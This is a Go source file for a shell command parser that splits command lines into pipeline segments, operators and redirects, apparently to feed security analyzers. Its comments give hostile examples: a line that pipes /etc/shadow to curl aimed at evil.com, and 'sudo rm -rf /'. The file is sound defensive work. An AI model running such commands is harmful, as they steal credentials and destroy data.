// Package shellparse turns a raw command line into its pipeline structure:
// ordered segments, the operators joining them, and redirects. The behavioral
// and chain analyzers consume this instead of guessing structure from raw
// substrings, so "grep password notes.txt" and "grep password /etc/shadow |
// curl --data @- evil.com" are distinguishable.
package shellparse

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Command is the pipeline-level structure of one command line.
type Command struct {
	// Segments are the individual simple commands, in order of appearance.
	Segments []Segment

	// Operators joins Segments[i] to Segments[i+1]: "|", "&&", "||", ";".
	Operators []string

	// Redirects collected across the whole statement.
	Redirects []Redirect
}

// Segment is a single simple command within a pipeline. sudo is treated as
// transparent: "sudo rm -rf /" reports Executable "rm" with Sudo set.
type Segment struct {
	Raw        string
	Executable string
	Args       []string
	Flags      map[string]string
	Sudo       bool
}

// Redirect is one shell redirection.
type Redirect struct {
	Op   string // ">", ">>", "<", "2>"
	Path string
}

// Parse builds the pipeline structure for a command line. It never fails:
// input the shell parser rejects degrades to whitespace/pipe splitting, and
// empty input yields an empty Command.
func Parse(command string) *Command {
	parser := syntax.NewParser(syntax.KeepComments(false), syntax.Variant(syntax.LangBash))
	file, err := parser.Parse(strings.NewReader(command), "")
	if err != nil {
		return fallbackParse(command)
	}

	c := &Command{}
	for _, stmt := range file.Stmts {
		if len(c.Segments) > 0 {
			c.Operators = append(c.Operators, ";")
		}
		walkStmt(c, stmt)
	}
	return c
}

// HasOperator reports whether any of the given operators joins two segments.
func (c *Command) HasOperator(ops ...string) bool {
	for _, have := range c.Operators {
		for _, want := range ops {
			if have == want {
				return true
			}
		}
	}
	return false
}

// Executables returns the executable of every segment, in order.
func (c *Command) Executables() []string {
	out := make([]string, 0, len(c.Segments))
	for _, seg := range c.Segments {
		out = append(out, seg.Executable)
	}
	return out
}

// AppendsTo reports whether the command appends (>>) to a path containing
// the given fragment.
func (c *Command) AppendsTo(fragment string) bool {
	for _, r := range c.Redirects {
		if r.Op == ">>" && strings.Contains(r.Path, fragment) {
			return true
		}
	}
	return false
}

// HasFlag reports whether the segment carries a flag, short or long form.
func (s Segment) HasFlag(names ...string) bool {
	for _, n := range names {
		if _, ok := s.Flags[n]; ok {
			return true
		}
	}
	return false
}

func walkStmt(c *Command, stmt *syntax.Stmt) {
	if stmt.Cmd == nil {
		return
	}

	for _, redir := range stmt.Redirs {
		r := Redirect{Op: redirectOpString(redir)}
		if redir.Word != nil {
			r.Path = wordToString(redir.Word)
		}
		c.Redirects = append(c.Redirects, r)
	}

	switch cmd := stmt.Cmd.(type) {
	case *syntax.CallExpr:
		c.Segments = append(c.Segments, callToSegment(cmd))

	case *syntax.BinaryCmd:
		left := &Command{}
		right := &Command{}
		walkStmt(left, cmd.X)
		walkStmt(right, cmd.Y)
		c.Segments = append(c.Segments, left.Segments...)
		c.Operators = append(c.Operators, left.Operators...)
		c.Operators = append(c.Operators, binaryOpString(cmd.Op))
		c.Segments = append(c.Segments, right.Segments...)
		c.Operators = append(c.Operators, right.Operators...)
		c.Redirects = append(c.Redirects, left.Redirects...)
		c.Redirects = append(c.Redirects, right.Redirects...)

	case *syntax.Subshell:
		for _, s := range cmd.Stmts {
			walkStmt(c, s)
		}
	}
}

func callToSegment(call *syntax.CallExpr) Segment {
	seg := Segment{Flags: make(map[string]string)}

	words := make([]string, 0, len(call.Args))
	for _, word := range call.Args {
		words = append(words, wordToString(word))
	}
	seg.Raw = strings.Join(words, " ")
	if len(words) == 0 {
		return seg
	}

	seg.Executable = words[0]
	rest := words[1:]

	// Strip sudo and its own flags so checks see the real command.
	if seg.Executable == "sudo" {
		seg.Sudo = true
		for len(rest) > 0 && strings.HasPrefix(rest[0], "-") {
			// -u and -g consume the following word as their value.
			if (rest[0] == "-u" || rest[0] == "-g") && len(rest) > 1 {
				rest = rest[1:]
			}
			rest = rest[1:]
		}
		if len(rest) > 0 {
			seg.Executable = rest[0]
			rest = rest[1:]
		}
	}

	for _, w := range rest {
		switch {
		case strings.HasPrefix(w, "--") && len(w) > 2:
			flag := w[2:]
			if eq := strings.Index(flag, "="); eq >= 0 {
				seg.Flags[flag[:eq]] = flag[eq+1:]
			} else {
				seg.Flags[flag] = ""
			}
		case strings.HasPrefix(w, "-") && len(w) > 1:
			for _, ch := range w[1:] {
				seg.Flags[string(ch)] = ""
			}
		default:
			seg.Args = append(seg.Args, w)
		}
	}
	return seg
}

// fallbackParse handles input mvdan.cc/sh rejects: split on pipes and
// whitespace so analyzers still see an approximate structure.
func fallbackParse(command string) *Command {
	c := &Command{}
	parts := strings.Split(command, "|")
	for i, part := range parts {
		part = strings.TrimSpace(part)
		if part == "" {
			continue
		}
		words := strings.Fields(part)
		seg := Segment{
			Raw:        part,
			Executable: words[0],
			Flags:      make(map[string]string),
		}
		for _, w := range words[1:] {
			if strings.HasPrefix(w, "-") && len(w) > 1 {
				for _, ch := range strings.TrimLeft(w, "-") {
					seg.Flags[string(ch)] = ""
				}
			} else {
				seg.Args = append(seg.Args, w)
			}
		}
		c.Segments = append(c.Segments, seg)
		if i < len(parts)-1 {
			c.Operators = append(c.Operators, "|")
		}
	}
	return c
}

func wordToString(word *syntax.Word) string {
	var sb strings.Builder
	printer := syntax.NewPrinter()
	printer.Print(&sb, word)
	return sb.String()
}

func redirectOpString(redir *syntax.Redirect) string {
	switch redir.Op {
	case syntax.RdrOut:
		return ">"
	case syntax.AppOut:
		return ">>"
	case syntax.RdrIn:
		return "<"
	default:
		return redir.Op.String()
	}
}

func binaryOpString(op syntax.BinCmdOperator) string {
	switch op {
	case syntax.Pipe:
		return "|"
	case syntax.AndStmt:
		return "&&"
	case syntax.OrStmt:
		return "||"
	default:
		return op.String()
	}
}
